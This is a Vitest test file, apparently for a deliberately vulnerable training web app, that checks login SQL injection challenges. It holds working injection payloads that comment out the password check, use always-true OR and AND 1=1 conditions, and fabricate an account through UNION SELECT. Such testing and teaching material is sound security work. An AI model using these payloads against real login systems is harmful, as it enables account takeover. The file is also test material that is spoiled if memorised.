import { beforeEach, describe, expect, it } from "vitest";
import { isSolved, login, resetInstance, tokenData } from "../support/instance";
import { persona } from "../support/seed";

const email = (name: Parameters<typeof persona>[0]) => persona(name).email;
const loggedInAs = async (response: Response) => {
  expect(response.status).toBe(200);
  return tokenData((await response.json()).authentication.token).email;
};

describe("SQL injection in the login: other people's accounts", () => {
  beforeEach(resetInstance);

  it("loginJimChallenge: commenting out the password check logs in as Jasper", async () => {
    expect(await loggedInAs(await login(`${email("jim")}'--`, "whatever"))).toBe(email("jim"));
    expect(await isSolved("loginJimChallenge")).toBe(true);
  });

  it("loginBenderChallenge: an always-true condition that picks Gus's row works too", async () => {
    expect(await loggedInAs(await login(`' OR email LIKE 'gus.grindle%' --`, "x"))).toBe(email("bender"));
    expect(await isSolved("loginBenderChallenge")).toBe(true);
    expect(await isSolved("loginJimChallenge")).toBe(false);
  });

  it("ghostLoginChallenge: only an injection that drops the erased-user condition brings Wilma back", async () => {
    expect((await login(email("ghost"), persona("ghost").password)).status).toBe(401);
    expect((await login(`${email("ghost")}' AND 1=1 --`, "x")).status).toBe(200);
    expect(await isSolved("ghostLoginChallenge")).toBe(true);
  });

  it("ephemeralAccountantChallenge: a UNION fabricates an accountant who is in no table", async () => {
    const columns =
      "99, '', 'acc0unt4nt@squeeze.test', 'x', 'accounting', '', '127.0.0.1', '/assets/public/images/uploads/default.svg', '', 1, 0, '2026-01-01', '2026-01-01', NULL";
    const response = await login(`' UNION SELECT ${columns} --`, "x");
    expect(await loggedInAs(response)).toBe("acc0unt4nt@squeeze.test");
    expect(await isSolved("ephemeralAccountantChallenge")).toBe(true);
  });

  it("ordinary logins, wrong passwords and a real accountant solve none of them", async () => {
    expect((await login(email("accountant"), persona("accountant").password)).status).toBe(200);
    expect((await login(email("emma"), persona("emma").password)).status).toBe(200);
    expect((await login(email("jim"), "wrong")).status).toBe(401);
    expect((await login("' OR 1=1 --", "x")).status).toBe(200); // the admin's row: Login Admin, not these
    for (const key of ["loginJimChallenge", "loginBenderChallenge", "ghostLoginChallenge", "ephemeralAccountantChallenge"]) {
      expect(await isSolved(key), key).toBe(false);
    }
  });
});
